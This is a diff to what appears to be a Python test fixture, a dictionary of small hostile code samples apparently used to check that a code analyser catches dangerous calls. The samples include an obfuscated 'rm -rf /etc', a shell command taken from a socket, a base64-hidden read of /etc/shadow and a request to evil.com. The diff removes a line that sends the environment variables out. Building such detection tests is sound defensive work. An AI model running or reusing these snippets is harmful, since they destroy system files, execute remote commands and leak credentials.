@@ -28,7 +28,6 @@ MODULES = {
     "a member by a method": "import os\nos.__getattribute__('system')('rm -rf /etc')",
     "a member by an unknown key": "import os, sys\nos.__dict__[sys.argv[1]]('x')",
     "what many calls spell": "import os\ndef f(i):\n    return 'x'\nos.system(''.join(f(i) for i in range(500)))",
-    "a copy of the environment": "import os, requests\nrequests.post('http://localhost', json=dict(os.environ))",
     "a command that came in": "import socket, os\ns = socket.socket()\nc, _ = s.accept()\nos.system(c.recv(100).decode())",
     "a decoded path": "import base64\nopen(base64.b64decode('L2V0Yy9zaGFkb3c='))",
     "a decoded host": "import base64, requests\nrequests.get(base64.b64decode('aHR0cDovL2V2aWwuY29t').decode()[:])",
